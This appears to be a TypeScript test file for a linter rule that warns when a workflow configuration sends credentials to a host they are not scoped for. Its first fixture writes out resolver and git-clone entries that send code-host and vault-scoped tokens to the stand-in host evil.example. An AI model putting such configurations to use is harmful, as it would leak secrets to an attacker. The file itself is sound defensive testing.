import assert from 'node:assert/strict';
import { test } from 'node:test';
import { said } from '../../../test/support/worlds/lint-world.ts';

test('credentials for a host that they are not meant for are found, also in a template that begins with the host', async () => {
  const findings = await said(
    'credential-audience',
    `resolvers:
  a: {provider: http, inputs: {url: "https://evil.example/x", authProvider: code-host@ci}}
  b: {provider: http, inputs: {url: {tmpl: "https://evil.example/{{ a }}"}, authProvider: code-host}}
  c: {provider: http, inputs: {url: "https://evil.example/", authProvider: directory, scope: "https://vault.azure.net/.default"}}
workflow:
  actions:
    d: {provider: git, inputs: {operation: clone, repository: "https://evil.example/r.git", path: r, authProvider: code-host}}
`,
  );
  assert.deepEqual(
    findings.map(text => text.slice(0, text.indexOf(' ('))),
    [
      '/spec/resolvers/a/inputs/url warning: resolver "a" sends the credentials of code-host@ci to evil.example; they are for github.com, api.github.com, uploads.github.com',
      '/spec/resolvers/b/inputs/url warning: resolver "b" sends the credentials of code-host to evil.example; they are for github.com, api.github.com, uploads.github.com',
      '/spec/resolvers/c/inputs/url warning: resolver "c" sends the credentials of directory to evil.example; they are for **.vault.azure.net',
      '/spec/workflow/actions/d/inputs/repository warning: action "d" sends the credentials of code-host to evil.example; they are for github.com, api.github.com, uploads.github.com',
    ],
  );
});

test('hosts that the credentials are for, and what cannot be known, are left alone', async () => {
  const findings = await said(
    'credential-audience',
    `resolvers:
  a: {provider: http, inputs: {url: "https://api.github.com/user", authProvider: code-host}}
  b: {provider: http, inputs: {url: "https://api.example.com/b", authProvider: cloud@prod}}
  c: {provider: http, inputs: {url: "https://api.example.com/", authProvider: directory, scope: "api://app/.default"}}
  d: {provider: http, inputs: {url: {expr: "_.a"}, authProvider: code-host}}
  e: {provider: http, inputs: {url: "https://kv.vault.azure.net/", authProvider: directory, scope: ["https://vault.azure.net/.default"]}}
  f: {provider: http, inputs: {url: "https://example.com/"}}
`,
  );
  assert.deepEqual(findings, []);
});
